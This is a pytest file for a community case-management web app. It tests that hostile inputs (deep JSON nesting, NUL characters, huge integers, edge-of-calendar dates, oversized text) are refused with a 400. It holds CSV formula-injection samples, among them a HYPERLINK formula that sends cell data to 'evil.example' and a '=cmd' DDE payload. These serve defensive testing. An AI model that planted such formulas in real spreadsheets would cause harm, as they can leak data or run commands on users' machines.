"""Hostile input from outside, over HTTP, on both databases: every one of these was a 500 (or was
stored as sent) and must be a clear 400 with nothing written."""
import csv
import io
import re

import pytest

from cases import rates
from cases import workflow
from community.demo import DEMO_PASSWORD
from community.demo import seed_demo
from linli.text_limits import TEXT_LIMITS
from models.cases import Case
from models.cases import CaseEvent
from models.people import Staff


@pytest.fixture
def town(client, database, emulator):
    seed_demo()

    class Town:
        def resident(self, openid="o-hostile"):
            answer = client.post("/api/mp/login", json={"code": emulator.login_code(openid)})
            return {"Authorization": "Bearer " + answer.json["token"]}

        def staff(self, username="tianbing"):
            answer = client.post("/api/mp/staff/login", json={"username": username, "password": DEMO_PASSWORD})
            return {"Authorization": "Bearer " + answer.json["token"]}

        def console(self, username="tianbing"):
            """Signs the test client in to the console; returns a CSRF token for its forms."""
            client.application.config["SESSION_COOKIE_SECURE"] = False
            page = client.get("/console/login").get_data(as_text=True)
            token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
            answer = client.post("/console/login", data={"username": username, "password": DEMO_PASSWORD,
                                                          "csrf": token})
            assert answer.status_code == 303
            page = client.get("/console/cases/new").get_data(as_text=True)
            return re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    return Town()


def _nested(depth):
    return "[" * depth + "]" * depth


# -- JSON nesting ---------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["/api/mp/login", "/api/mp/staff/login", "/api/mp/merchant/login"])
def test_json_nested_100000_deep_is_a_400_not_a_recursion_error(client, database, path):
    """An attacker's 100,000 nested brackets used to recurse until RecursionError: a 500."""
    answer = client.post(path, data='{"code": %s}' % _nested(100_000), content_type="application/json")
    assert answer.status_code == 400
    assert answer.json["error"]["code"] == "json_too_deep"


def test_json_just_past_the_bound_is_refused_and_within_it_parsed(client, database, town):
    headers = town.resident()
    deep = client.put("/api/mp/me/address", headers=headers, content_type="application/json",
                      data='{"building_id": 1, "room": %s}' % _nested(40))
    assert (deep.status_code, deep.json["error"]["code"]) == (400, "json_too_deep")
    shallow = client.put("/api/mp/me/address", headers=headers, content_type="application/json",
                         data='{"building_id": 1, "room": %s}' % _nested(3))
    assert shallow.status_code == 422 or shallow.json["error"]["code"] != "json_too_deep"


# -- NUL characters -------------------------------------------------------------------------------
NUL_REQUESTS = {
    "staff sign-in (JSON)": ("post", "/api/mp/staff/login", {"json": {"username": "tian\x00bing", "password": "x"}}),
    "console sign-in (form)": ("post", "/console/login", {"data": {"username": "tian\x00bing", "password": "x"}}),
    "Open311 search (query)": ("get", "/open311/v2/requests.json?service_request_id=A%00B", {}),
    "Open311 filing (form)": ("post", "/open311/v2/requests.json",
                              {"data": {"api_key": "k", "service_code": "x\x00", "description": "d"}}),
    "a board by community (path)": ("get", "/api/mp/communities/ab%00c/resolved", {}),
    "a JSON key": ("post", "/api/mp/login", {"json": {"code\x00": "c"}}),
    "a nested JSON string": ("post", "/api/mp/login", {"json": {"code": "c", "x": [{"y": "\x00"}]}}),
}


@pytest.mark.parametrize("name", list(NUL_REQUESTS))
def test_a_nul_character_anywhere_is_refused_at_the_edge_on_both_databases(client, database, name):
    """PostgreSQL cannot hold U+0000 in text: a NUL in any field was a 500 there (and stored as
    sent on SQLite). Both now answer 400 before any query."""
    method, path, kwargs = NUL_REQUESTS[name]
    answer = getattr(client, method)(path, **kwargs)
    assert answer.status_code == 400, answer.data[:300]
    if not path.startswith("/console/"):
        assert answer.json["error"]["code"] == "nul_character"


def test_a_nul_in_a_resident_filing_stores_nothing(client, town):
    answer = client.post("/api/mp/reports", headers=town.resident(),
                         json={"description": "楼道灯坏了\x00三天了", "category_id": 1})
    assert (answer.status_code, answer.json["error"]["code"]) == (400, "nul_character")
    assert Case.select().count() == 0 and CaseEvent.select().count() == 0


# -- integers -------------------------------------------------------------------------------------
HUGE = "1" * 30


@pytest.mark.parametrize("name", ["level", "grid_id"])
def test_a_30_digit_filter_in_the_staff_api_is_a_400(client, town, name):
    """A 30-digit number overflowed inside SQLite's query: a 500."""
    answer = client.get("/api/mp/staff/cases?%s=%s" % (name, HUGE), headers=town.staff())
    assert (answer.status_code, answer.json["error"]["code"]) == (400, "bad_filter")
    assert name in answer.json["error"]["message"]


@pytest.mark.parametrize("query", ["level=" + HUGE, "grid=" + HUGE, "level=-" + HUGE])
def test_a_30_digit_filter_in_the_console_is_a_400_page_that_says_why(client, town, query):
    town.console()
    answer = client.get("/console/cases?" + query)
    assert answer.status_code == 400
    assert "应为整数" in answer.get_data(as_text=True)


def test_the_console_queue_still_filters_by_an_ordinary_level(client, town):
    town.console()
    assert client.get("/console/cases?level=1&grid=1").status_code == 200


# -- times ----------------------------------------------------------------------------------------
def test_a_notice_scheduled_at_the_calendars_edge_is_a_400_page(client, town):
    """Year 1 at Asia/Shanghai has no UTC in Python: scheduling a notice then was a 500."""
    csrf = town.console()
    answer = client.post("/console/notices", data={"csrf": csrf, "key": "n-1", "text": "停水通知",
                                                   "target": "all", "send_at": "0001-01-01T00:00"})
    assert answer.status_code == 400
    assert "发送时间" in answer.get_data(as_text=True)


def test_a_month_at_the_calendars_edge_is_a_400_in_the_rates(client, town):
    answer = client.get("/api/mp/staff/rates?month=0001-01", headers=town.staff())
    assert (answer.status_code, answer.json["error"]["code"]) == (400, "bad_filter")


# -- CSV exports ----------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点击领奖")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def _table(answer):
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))


def test_merchant_names_cannot_smuggle_formulas_into_the_red_card_totals(client, town):
    """A merchant onboarded as `=HYPERLINK(...)` ran as a formula in the secretary's spreadsheet."""
    secretary = town.staff()
    for name in FORMULAS:
        made = client.post("/api/mp/staff/redcard/merchants", headers=secretary,
                           json={"name": name, "address": "八家庄路 12 号", "category": "餐饮"})
        assert made.status_code == 201, made.json
    cells = [row[0] for row in _table(client.get("/api/mp/staff/redcard/totals.csv", headers=secretary))[1:]]
    assert {"'" + name for name in FORMULAS} <= set(cells)
    assert not [cell for cell in cells if cell[0] in "=+-@"]


def test_no_export_cell_starts_a_formula(database):
    """The rates export (grid, staff and category names) goes through the same writer; a tab or
    carriage return in front of a formula is neutralised too."""
    labels = ["=cmd|' /C calc'!A0", "\t=1+1", "\r@SUM(A1)", "第一网格"]
    rows = [rates.Row(key=i, label=label, cases=0, response_rate=None, on_time_resolution_rate=None,
                      resolution_rate=None, satisfaction_rate=None, mean_hours_to_respond=None,
                      mean_hours_to_resolve=None, overdue=0) for i, label in enumerate(labels)]
    table = list(csv.reader(io.StringIO(rates.to_csv(rows).lstrip("\ufeff"))))
    assert [row[1] for row in table[1:]] == ["'=cmd|' /C calc'!A0", "'\t=1+1", "'\r@SUM(A1)", "第一网格"]


# -- free text ------------------------------------------------------------------------------------
LONG = "长" * 100_000


def _resolved_case(client, town):
    headers = town.resident("o-wordy")
    number = client.post("/api/mp/reports", headers=headers, json={"description": "水管还在漏水"}).json["number"]
    workflow.resolve(Case.get(Case.number == number), Staff.get(Staff.username == "tianbing"), "已修")
    return headers, number


@pytest.mark.parametrize("action, body, code", [
    ("reopen", {"reason": LONG}, "reason_too_long"),
    ("rating", {"score": 4, "comment": LONG}, "comment_too_long"),
])
def test_a_100000_character_reason_or_comment_is_refused_and_nothing_stored(client, town, action, body, code):
    """Both were stored whole in the case's timeline."""
    headers, number = _resolved_case(client, town)
    events = CaseEvent.select().count()
    answer = client.post("/api/mp/reports/%s/%s" % (number, action), headers=headers, json=body)
    assert (answer.status_code, answer.json["error"]["code"]) == (400, code)
    assert str(TEXT_LIMITS[code[:-len("_too_long")]]) in answer.json["error"]["message"]
    case = Case.get(Case.number == number)
    assert (case.state, case.rating, CaseEvent.select().count()) == ("resolved", None, events)


def test_a_reason_at_its_limit_is_taken(client, town):
    headers, number = _resolved_case(client, town)
    answer = client.post("/api/mp/reports/%s/reopen" % number, headers=headers,
                         json={"reason": "漏" * TEXT_LIMITS["reason"]})
    assert answer.status_code == 200 and answer.json["state"] == "reopened"


def test_a_staff_note_past_its_limit_is_refused_in_the_staff_api(client, town):
    headers, number = _resolved_case(client, town)
    answer = client.post("/api/mp/staff/cases/%s/notes" % number, headers=town.staff(),
                         json={"text": "记" * (TEXT_LIMITS["text"] + 1)})
    assert (answer.status_code, answer.json["error"]["code"]) == (400, "text_too_long")


def test_a_walk_in_description_past_its_limit_is_refused_in_the_console(client, town):
    """The console's walk-in form took any length."""
    csrf = town.console()
    answer = client.post("/console/cases/new", data={"csrf": csrf, "description": LONG, "phone": "13800000000"})
    assert answer.status_code == 400
    assert "description 不能超过 %d 个字" % TEXT_LIMITS["description"] in answer.get_data(as_text=True)
    assert Case.select().count() == 0
    taken = client.post("/console/cases/new", data={"csrf": csrf, "description": "来电：电梯困人" * 10})
    assert taken.status_code == 303 and Case.select().count() == 1
